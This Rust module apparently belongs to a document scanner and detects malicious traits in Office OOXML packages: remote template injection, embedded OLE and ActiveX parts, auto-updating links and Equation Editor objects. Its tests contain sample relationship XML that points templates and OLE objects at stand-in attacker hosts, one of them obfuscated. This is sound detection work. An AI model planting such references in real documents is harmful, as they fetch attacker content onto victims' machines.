//! OOXML packages (.docx/.xlsx/.pptx and their macro, template and binary
//! variants): a zip with `[Content_Types].xml`.
//!
//! What it reports:
//! - relationships (`*.rels`) with `TargetMode="External"` whose type is
//!   `attachedTemplate`, `oleObject`, `frame` or `subDocument` and whose
//!   target is remote (`http(s):`, `\\UNC`, `file://host`, `mhtml:`, any
//!   other URL scheme) → [`IndicatorKind::ExternalReference`] with detail
//!   `"<type>: <target>"` (template injection, CVE-2021-40444 and kin).
//!   Plain hyperlinks and links to local files are not indicators;
//! - parts in `embeddings/` (`oleObject*.bin` compound files, embedded
//!   packages and files) and altChunk parts (`afchunk.rtf`, `.mht`) →
//!   [`Embedded`], to be scanned like any file;
//! - ActiveX controls (`activeX/activeX*.xml` with their `classid`) →
//!   [`IndicatorKind::ActiveX`]; their `activeX*.bin` → [`Embedded`];
//! - OLE objects declared in the document (`o:OLEObject`, `oleObject`,
//!   `p:oleObj`): `UpdateMode="Always"` → [`IndicatorKind::AutoUpdate`]; a
//!   ProgID of the Equation Editor → [`IndicatorKind::EquationEditor`].
//!
//! XML is read with a small tolerant scanner: attribute names compared
//! without namespace prefix or case, either quote, character references
//! (`&#104;ttp`) decoded. Every part read is checked against the ratio and
//! charged to the [`Budget`] before it is inflated.

use std::io::{Cursor, Read};

use super::ole_objects::is_equation_prog_id;
use super::{Budget, Embedded, Exhausted, IndicatorKind, Opened, Passwords};

/// A part not read; the text follows `OOXML part NAME: ` in the opener's
/// limits.
#[derive(Debug, thiserror::Error)]
enum PartError {
    #[error("declares {declared} bytes, over the {cap} allowed; not read")]
    TooLarge { declared: u64, cap: u64 },
    /// The ratio, or the message's time or bytes.
    #[error(transparent)]
    Budget(#[from] Exhausted),
    #[error(transparent)]
    Zip(#[from] zip::result::ZipError),
    #[error("inflates past {cap} bytes; not read")]
    InflatesPast { cap: u64 },
    /// Inflating failed before any byte came out.
    #[error(transparent)]
    Read(#[from] std::io::Error),
}

impl PartError {
    /// The message's budget is spent: no further part can be read.
    fn ends_the_package(&self) -> bool {
        matches!(self, PartError::Budget(Exhausted::Time | Exhausted::Bytes))
    }
}

/// Bounds on the work one package may cause (besides the budget).
#[derive(Debug, Clone, Copy, PartialEq, Eq, serde::Serialize, serde::Deserialize)]
#[serde(default, deny_unknown_fields)]
pub struct Limits {
    /// Zip entries looked at per package.
    pub max_entries: usize,
    /// Bytes one XML part may inflate to (larger parts are not read).
    pub max_xml_bytes: u64,
    /// Bytes one embedded part may inflate to.
    pub max_embedded_bytes: u64,
    /// Indicators of one kind reported per package.
    pub max_indicators: usize,
}

impl Default for Limits {
    fn default() -> Limits {
        Limits {
            max_entries: 10_000,
            max_xml_bytes: 16 << 20,
            max_embedded_bytes: 64 << 20,
            max_indicators: 256,
        }
    }
}

/// Relationship types that fetch their target when the document opens.
const FETCHING_TYPES: [&str; 4] = ["attachedTemplate", "oleObject", "frame", "subDocument"];

/// True when `data` is a zip whose directory names `[Content_Types].xml`.
pub fn sniff(data: &[u8]) -> bool {
    data.starts_with(b"PK\x03\x04") && memchr::memmem::find(data, b"[Content_Types].xml").is_some()
}

/// Everything found inside, within the budget, with the default limits.
pub fn open(data: &[u8], budget: &Budget, _passwords: Passwords<'_>) -> Opened {
    open_with(data, budget, &Limits::default())
}

/// [`open`] with explicit limits.
pub fn open_with(data: &[u8], budget: &Budget, limits: &Limits) -> Opened {
    let mut out = Opened::default();
    if !sniff(data) {
        return out;
    }
    let mut archive = match zip::ZipArchive::new(Cursor::new(data)) {
        Ok(a) => a,
        Err(e) => {
            out.limits
                .push(format!("not a readable OOXML package: {e}"));
            return out;
        }
    };
    let count = archive.len();
    if count > limits.max_entries {
        out.limits.push(format!(
            "more than {} entries in an OOXML package; the rest not checked",
            limits.max_entries
        ));
    }
    let mut seen = Seen::default();
    for index in 0..count.min(limits.max_entries) {
        if budget.expired() {
            out.limits
                .push("the scan's time budget ran out in an OOXML package".into());
            break;
        }
        let (name, compressed, declared, encrypted) = match archive.by_index_raw(index) {
            Ok(e) => (
                e.name()
                    .map(|n| n.into_owned())
                    .unwrap_or_else(|_| format!("entry{index}")),
                e.compressed_size(),
                e.size(),
                e.encrypted(),
            ),
            Err(e) => {
                out.limits.push(format!("OOXML entry {index}: {e}"));
                continue;
            }
        };
        let lower = name.to_ascii_lowercase();
        let part = Part::of(&lower);
        if part == Part::Other {
            continue;
        }
        if encrypted {
            out.limits
                .push(format!("OOXML part {name} is encrypted; not read"));
            continue;
        }
        let cap = match part {
            Part::Embedded | Part::ActiveXBin => limits.max_embedded_bytes,
            _ => limits.max_xml_bytes,
        };
        let bytes = match read_part(&mut archive, index, compressed, declared, cap, budget) {
            Ok(b) => b,
            Err(why) => {
                out.limits.push(format!("OOXML part {name}: {why}"));
                if why.ends_the_package() {
                    break;
                }
                continue;
            }
        };
        match part {
            Part::Rels => relationships(&bytes, &name, limits, &mut seen, &mut out),
            Part::Embedded => {
                if !bytes.is_empty() {
                    let file = name.rsplit('/').next().map(str::to_string);
                    out.embedded
                        .push(Embedded::new(file, bytes, "OOXML embedded part"));
                }
            }
            Part::ActiveXXml => activex(&bytes, &name, limits, &mut seen, &mut out),
            Part::ActiveXBin => {
                if !bytes.is_empty() {
                    let file = name.rsplit('/').next().map(str::to_string);
                    out.embedded
                        .push(Embedded::new(file, bytes, "OOXML ActiveX part"));
                }
            }
            Part::Xml => ole_objects(&bytes, &name, limits, &mut seen, &mut out),
            Part::Other => {}
        }
    }
    out
}

/// Counts of what was reported, to bound each kind.
#[derive(Default)]
struct Seen {
    external: usize,
    activex: usize,
    objects: usize,
}

#[derive(Debug, Clone, Copy, PartialEq, Eq)]
enum Part {
    Rels,
    Embedded,
    ActiveXXml,
    ActiveXBin,
    /// A content part that may declare OLE objects.
    Xml,
    Other,
}

impl Part {
    fn of(lower: &str) -> Part {
        let leaf = lower.rsplit('/').next().unwrap_or(lower);
        if lower.ends_with(".rels") {
            Part::Rels
        } else if lower.contains("/embeddings/") || lower.starts_with("embeddings/") {
            if lower.ends_with('/') {
                Part::Other
            } else {
                Part::Embedded
            }
        } else if [
            ".rtf", ".mht", ".mhtml", ".htm", ".html", ".docx", ".docm", ".xlsm",
        ]
        .iter()
        .any(|ext| leaf.ends_with(ext))
        {
            // altChunk parts (`afchunk.rtf`, `.mht`): Word renders them in
            // the document, exploits included.
            Part::Embedded
        } else if lower.contains("activex/") && leaf.starts_with("activex") {
            if leaf.ends_with(".xml") {
                Part::ActiveXXml
            } else if leaf.ends_with(".bin") {
                Part::ActiveXBin
            } else {
                Part::Other
            }
        } else if lower.ends_with(".xml")
            && !lower.starts_with("docprops/")
            && leaf != "[content_types].xml"
            && !leaf.starts_with("theme")
            && !leaf.starts_with("styles")
            && !leaf.starts_with("fonttable")
            && !leaf.starts_with("numbering")
            && !leaf.starts_with("sharedstrings")
        {
            Part::Xml
        } else {
            Part::Other
        }
    }
}

/// Read one part: ratio checked and bytes charged before inflating; no
/// more than `cap` bytes kept whatever the entry declares.
fn read_part(
    archive: &mut zip::ZipArchive<Cursor<&[u8]>>,
    index: usize,
    compressed: u64,
    declared: u64,
    cap: u64,
    budget: &Budget,
) -> Result<Vec<u8>, PartError> {
    let cap = cap.min(budget.cap_for(compressed));
    if declared > cap {
        return Err(PartError::TooLarge { declared, cap });
    }
    budget.check_ratio(compressed, declared)?;
    budget.take(declared)?;
    let entry = archive.by_index(index)?;
    let mut out = Vec::new();
    let read = entry.take(cap + 1).read_to_end(&mut out);
    // An entry may inflate past what it declares: charge the rest too.
    let extra = (out.len() as u64).saturating_sub(declared);
    if extra > 0 {
        budget.take(extra)?;
    }
    if out.len() as u64 > cap {
        return Err(PartError::InflatesPast { cap });
    }
    match read {
        Ok(_) => Ok(out),
        // A damaged tail: what was read is still worth a look.
        Err(_) if !out.is_empty() => Ok(out),
        Err(e) => Err(e.into()),
    }
}

/// External relationships of the types that fetch their target.
fn relationships(xml: &[u8], part: &str, limits: &Limits, seen: &mut Seen, out: &mut Opened) {
    for element in elements(xml, &["Relationship"]) {
        let mode = element.attr("TargetMode").unwrap_or_default();
        if !mode.trim().eq_ignore_ascii_case("External") {
            continue;
        }
        let kind = element.attr("Type").unwrap_or_default();
        let short = kind.trim().rsplit('/').next().unwrap_or("").to_string();
        let Some(known) = FETCHING_TYPES
            .iter()
            .find(|t| t.eq_ignore_ascii_case(&short))
        else {
            continue;
        };
        let target = element.attr("Target").unwrap_or_default();
        let target = target.trim();
        if !is_remote(target) {
            continue;
        }
        if seen.external >= limits.max_indicators {
            out.limits.push(format!(
                "more than {} external references in {part}; the rest not reported",
                limits.max_indicators
            ));
            return;
        }
        seen.external += 1;
        out.indicator(
            IndicatorKind::ExternalReference,
            format!("{known}: {target}"),
        );
    }
}

/// A target that leaves the machine: a URL with a scheme other than a
/// local `file:` path, a UNC path, an `mhtml:` link.
fn is_remote(target: &str) -> bool {
    let t = target.trim_start();
    let lower = t.to_ascii_lowercase();
    if t.starts_with("\\\\") || t.starts_with("//") {
        return true;
    }
    if let Some(rest) = lower.strip_prefix("file:") {
        // file:///C:/... and file:C:\... are local; file://host/... and
        // file:////host or file:\\host are not.
        let path = rest.trim_start_matches(['/', '\\']);
        let slashes = rest.len() - path.len();
        let drive = path.as_bytes().get(1) == Some(&b':')
            && path.as_bytes().first().is_some_and(u8::is_ascii_alphabetic);
        return !drive && (slashes == 2 || slashes >= 4) && !path.is_empty();
    }
    // Any other scheme (http, https, mhtml, ftp, ms-word, ...).
    match lower.find(':') {
        Some(i) if i >= 2 => lower[..i]
            .bytes()
            .all(|b| b.is_ascii_alphanumeric() || b == b'+' || b == b'-' || b == b'.'),
        _ => false,
    }
}

/// ActiveX control parts: `<ax:ocx ax:classid="{...}" ax:persistence=...>`.
fn activex(xml: &[u8], part: &str, limits: &Limits, seen: &mut Seen, out: &mut Opened) {
    for element in elements(xml, &["ocx"]) {
        if seen.activex >= limits.max_indicators {
            out.limits.push(format!(
                "more than {} ActiveX controls; the rest not reported",
                limits.max_indicators
            ));
            return;
        }
        seen.activex += 1;
        let clsid = element.attr("classid").unwrap_or_default();
        let clsid = clsid.trim().trim_matches(['{', '}']).to_ascii_uppercase();
        let shown = if clsid.is_empty() {
            "no classid".to_string()
        } else {
            format!("CLSID {clsid}")
        };
        out.indicator(IndicatorKind::ActiveX, format!("{shown} in {part}"));
    }
}

/// OLE objects declared in a content part.
fn ole_objects(xml: &[u8], part: &str, limits: &Limits, seen: &mut Seen, out: &mut Opened) {
    // Most parts declare none: look for the element name before parsing.
    let lower_hit = memchr::memmem::find(xml, b"oleObj").is_some()
        || memchr::memmem::find(xml, b"OLEObject").is_some()
        || memchr::memmem::find(xml, b"OLEObj").is_some();
    if !lower_hit {
        return;
    }
    for element in elements(xml, &["OLEObject", "oleObj"]) {
        if seen.objects >= limits.max_indicators {
            out.limits.push(format!(
                "more than {} OLE objects declared; the rest not reported",
                limits.max_indicators
            ));
            return;
        }
        let prog_id = element.attr("ProgID").unwrap_or_default();
        let prog_id = prog_id.trim();
        let update = element.attr("UpdateMode").unwrap_or_default();
        if update.trim().eq_ignore_ascii_case("Always") {
            seen.objects += 1;
            out.indicator(
                IndicatorKind::AutoUpdate,
                format!("OLE object {prog_id} with UpdateMode=Always in {part}"),
            );
        }
        if is_equation_prog_id(prog_id) {
            seen.objects += 1;
            out.indicator(
                IndicatorKind::EquationEditor,
                format!("OLE object {prog_id} in {part}"),
            );
        }
    }
}

/// One XML start tag: its attributes, names without namespace prefix.
struct Element {
    attrs: Vec<(String, String)>,
}

impl Element {
    /// The value of the attribute named `name` (no prefix, any case).
    fn attr(&self, name: &str) -> Option<String> {
        self.attrs
            .iter()
            .find(|(n, _)| n.eq_ignore_ascii_case(name))
            .map(|(_, v)| v.clone())
    }
}

/// Start tags whose local name (namespace prefix removed) is one of
/// `names`, any case. A tolerant scanner: no well-formedness required.
fn elements(xml: &[u8], names: &[&str]) -> Vec<Element> {
    let mut found = Vec::new();
    let mut i = 0usize;
    while let Some(at) = xml.get(i..).and_then(|r| memchr::memchr(b'<', r)) {
        let start = i + at + 1;
        let mut j = start;
        while j < xml.len() && !xml[j].is_ascii_whitespace() && xml[j] != b'>' && xml[j] != b'/' {
            j += 1;
        }
        let qname = &xml[start..j];
        let local = qname
            .iter()
            .rposition(|&c| c == b':')
            .map_or(qname, |p| &qname[p + 1..]);
        let wanted = names
            .iter()
            .any(|n| n.as_bytes().eq_ignore_ascii_case(local));
        if !wanted {
            i = j.max(start);
            continue;
        }
        let (attrs, end) = attributes(xml, j);
        found.push(Element { attrs });
        i = end.max(j);
    }
    found
}

/// Attributes from `at` to the end of the tag, and where the tag ends.
fn attributes(xml: &[u8], mut i: usize) -> (Vec<(String, String)>, usize) {
    let mut attrs = Vec::new();
    loop {
        while i < xml.len() && (xml[i].is_ascii_whitespace() || xml[i] == b'/') {
            i += 1;
        }
        match xml.get(i) {
            None => return (attrs, i),
            Some(b'>') => return (attrs, i + 1),
            Some(b'<') => return (attrs, i),
            _ => {}
        }
        let name_start = i;
        while i < xml.len()
            && !matches!(xml[i], b'=' | b'>' | b'<' | b'/')
            && !xml[i].is_ascii_whitespace()
        {
            i += 1;
        }
        let qname = &xml[name_start..i];
        let local = qname
            .iter()
            .rposition(|&c| c == b':')
            .map_or(qname, |p| &qname[p + 1..]);
        let name = String::from_utf8_lossy(local).into_owned();
        while i < xml.len() && xml[i].is_ascii_whitespace() {
            i += 1;
        }
        if xml.get(i) != Some(&b'=') {
            // An attribute without value; go on.
            if i == name_start {
                i += 1;
            }
            continue;
        }
        i += 1;
        while i < xml.len() && xml[i].is_ascii_whitespace() {
            i += 1;
        }
        let value = match xml.get(i) {
            Some(&q) if q == b'"' || q == b'\'' => {
                let from = i + 1;
                let len = xml
                    .get(from..)
                    .and_then(|r| memchr::memchr(q, r))
                    .unwrap_or(xml.len().saturating_sub(from));
                i = from + len + 1;
                xml.get(from..from + len).unwrap_or(&[])
            }
            _ => {
                let from = i;
                while i < xml.len() && !xml[i].is_ascii_whitespace() && xml[i] != b'>' {
                    i += 1;
                }
                &xml[from..i]
            }
        };
        if attrs.len() < 64 {
            attrs.push((name, unescape(value)));
        }
    }
}

/// XML character and entity references decoded; other text kept.
fn unescape(raw: &[u8]) -> String {
    let text = String::from_utf8_lossy(raw);
    if !text.contains('&') {
        return text.into_owned();
    }
    let mut out = String::with_capacity(text.len());
    let mut rest: &str = &text;
    while let Some(amp) = rest.find('&') {
        out.push_str(&rest[..amp]);
        let after = &rest[amp + 1..];
        let decoded = after.find(';').filter(|&semi| semi <= 12).and_then(|semi| {
            let entity = &after[..semi];
            let c = match entity {
                "amp" => Some('&'),
                "lt" => Some('<'),
                "gt" => Some('>'),
                "quot" => Some('"'),
                "apos" => Some('\''),
                _ => {
                    let num = entity.strip_prefix('#')?;
                    let code = match num.strip_prefix(['x', 'X']) {
                        Some(hex) => u32::from_str_radix(hex, 16).ok()?,
                        None => num.parse::<u32>().ok()?,
                    };
                    char::from_u32(code)
                }
            }?;
            Some((c, semi))
        });
        match decoded {
            Some((c, semi)) => {
                out.push(c);
                rest = &after[semi + 1..];
            }
            None => {
                out.push('&');
                rest = after;
            }
        }
    }
    out.push_str(rest);
    out
}

#[cfg(test)]
mod tests {
    use super::*;
    use std::io::Write;

    fn package(parts: &[(&str, &[u8])]) -> Vec<u8> {
        let mut w = zip::ZipWriter::new(Cursor::new(Vec::new()));
        let opts = zip::write::SimpleFileOptions::default()
            .compression_method(zip::CompressionMethod::Deflated);
        w.start_file("[Content_Types].xml", opts).unwrap();
        w.write_all(b"<Types/>").unwrap();
        for (name, data) in parts {
            w.start_file(*name, opts).unwrap();
            w.write_all(data).unwrap();
        }
        w.finish().unwrap().into_inner()
    }

    fn run(data: &[u8]) -> Opened {
        open(data, &Budget::generous(), Passwords::default())
    }

    fn details(o: &Opened, kind: IndicatorKind) -> Vec<String> {
        o.indicators
            .iter()
            .filter(|i| i.kind == kind)
            .map(|i| i.detail.clone())
            .collect()
    }

    #[test]
    fn remote_template_and_odd_writing_are_found() {
        let rels = br#"<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">
<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" Target="http://evil.example/t.dotm" TargetMode="External"/>
<ns0:Relationship ns0:Id='rId2' Type = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships/OLEOBJECT' TargetMode='external' Target='&#104;ttp&#x3a;//evil.example/o.doc'/>
<Relationship Id="rId3" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/frame" Target="\\10.0.0.1\share\x" TargetMode="External"/>
<Relationship Id="rId4" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/oleObject" Target="mhtml:http://evil.example/x.html!x-usc:http://evil.example/x.html" TargetMode="External"/>
<Relationship Id="rId5" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/subDocument" Target="file://evil.example/share/s.docx" TargetMode="External"/>
<Relationship Id="rId6" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/hyperlink" Target="http://example.com/" TargetMode="External"/>
<Relationship Id="rId7" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" Target="file:///C:\Users\a\Templates\Normal.dotm" TargetMode="External"/>
<Relationship Id="rId8" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/oleObject" Target="embeddings/oleObject1.bin"/>
</Relationships>"#;
        let o = run(&package(&[("word/_rels/settings.xml.rels", rels)]));
        assert_eq!(
            details(&o, IndicatorKind::ExternalReference),
            vec![
                "attachedTemplate: http://evil.example/t.dotm",
                "oleObject: http://evil.example/o.doc",
                "frame: \\\\10.0.0.1\\share\\x",
                "oleObject: mhtml:http://evil.example/x.html!x-usc:http://evil.example/x.html",
                "subDocument: file://evil.example/share/s.docx",
            ],
            "{o:?}"
        );
        assert_eq!(o.indicators.len(), 5);
    }

    #[test]
    fn embeddings_activex_and_declared_objects() {
        let doc = br#"<w:document><w:object><o:OLEObject Type="Link" ProgID="Word.Document.8" ShapeID="_x0000_i1025" DrawAspect="Content" r:id="rId8" UpdateMode="Always"/></w:object>
<w:object><o:OLEObject Type="Embed" ProgID="Equation.3" r:id="rId9"/></w:object></w:document>"#;
        let ax = br#"<ax:ocx ax:classid="{8856F961-340A-11D0-A96B-00C04FD705A2}" ax:persistence="persistStorage" r:id="rId1"/>"#;
        let o = run(&package(&[
            ("word/document.xml", doc),
            ("word/embeddings/oleObject1.bin", b"\xD0\xCF\x11\xE0data"),
            ("word/activeX/activeX1.xml", ax),
            ("word/activeX/activeX1.bin", b"axdata"),
            ("word/afchunk.rtf", b"{\\rtf1}"),
        ]));
        assert_eq!(
            details(&o, IndicatorKind::AutoUpdate),
            vec!["OLE object Word.Document.8 with UpdateMode=Always in word/document.xml"]
        );
        assert_eq!(details(&o, IndicatorKind::EquationEditor).len(), 1);
        assert_eq!(
            details(&o, IndicatorKind::ActiveX),
            vec!["CLSID 8856F961-340A-11D0-A96B-00C04FD705A2 in word/activeX/activeX1.xml"]
        );
        let names: Vec<_> = o.embedded.iter().map(|e| e.name.clone().unwrap()).collect();
        assert_eq!(names, vec!["oleObject1.bin", "activeX1.bin", "afchunk.rtf"]);
        assert_eq!(&o.embedded[0].data[..], b"\xD0\xCF\x11\xE0data");
    }

    #[test]
    fn plain_package_is_quiet_and_non_packages_are_ignored() {
        let o = run(&package(&[
            ("word/document.xml", b"<w:document><w:p>hello</w:p></w:document>"),
            (
                "word/_rels/document.xml.rels",
                br#"<Relationships><Relationship Id="r" Type="http://x/hyperlink" Target="http://a.example" TargetMode="External"/></Relationships>"#,
            ),
        ]));
        assert!(o.is_empty(), "{o:?}");
        assert!(!sniff(b"PK\x03\x04 plain zip"));
        assert!(run(b"not a zip").is_empty());
    }

    #[test]
    fn parts_are_charged_to_the_budget() {
        let big = vec![b'a'; 300_000];
        let data = package(&[("word/embeddings/big.bin", &big)]);
        let small = Budget::new(
            std::time::Instant::now() + std::time::Duration::from_secs(60),
            100_000,
            1000,
        );
        let o = open(&data, &small, Passwords::default());
        assert!(o.embedded.is_empty());
        assert!(!o.limits.is_empty(), "{o:?}");
        let limited = Limits {
            max_embedded_bytes: 1000,
            ..Limits::default()
        };
        let o = open_with(&data, &Budget::generous(), &limited);
        assert!(o.embedded.is_empty());
        assert!(
            o.limits.iter().any(|l| l.contains("over the 1000")),
            "{o:?}"
        );
    }

    #[test]
    fn only_a_spent_budget_ends_the_package() {
        // What the opener once told from the text ("budget" in it): time
        // and bytes stop the package, a ratio or a limit stops one part.
        for e in [Exhausted::Time, Exhausted::Bytes, Exhausted::Ratio] {
            assert_eq!(
                PartError::Budget(e).ends_the_package(),
                e.to_string().contains("budget"),
                "{e:?}"
            );
        }
        assert!(!PartError::TooLarge {
            declared: 2,
            cap: 1
        }
        .ends_the_package());
        assert!(!PartError::InflatesPast { cap: 1 }.ends_the_package());
    }

    #[test]
    fn remote_targets() {
        for remote in [
            "http://a",
            "HTTPS://a/b",
            "\\\\host\\share",
            "//host/share",
            "file://host/share/x",
            "file:////host/share",
            "file:\\\\host\\share",
            "mhtml:http://a/b!x",
            "ms-word:ofe|u|http://a",
        ] {
            assert!(is_remote(remote), "{remote}");
        }
        for local in [
            "file:///C:/Users/a/Normal.dotm",
            "file:///C:\\x.dotm",
            "file:C:\\x.dot",
            "C:\\Templates\\x.dotm",
            "../x.docx",
            "Normal.dotm",
            "",
        ] {
            assert!(!is_remote(local), "{local}");
        }
    }

    #[test]
    fn scanner_survives_broken_xml() {
        for xml in [
            &b"<"[..],
            b"<Relationship",
            b"<Relationship Target=",
            b"<Relationship Target='unterminated",
            b"<Relationship = = x>",
            b"<a:Relationship TargetMode=External Type=x/attachedTemplate Target=http://e/x>",
        ] {
            let _ = elements(xml, &["Relationship"]);
        }
        let e = elements(
            b"<a:Relationship TargetMode=External Type=x/attachedTemplate Target=http://e/x>",
            &["relationship"],
        );
        assert_eq!(e[0].attr("target").as_deref(), Some("http://e/x"));
        assert_eq!(unescape(b"&#104;t&#x74;p&amp;&bogus;&"), "http&&bogus;&");
    }
}
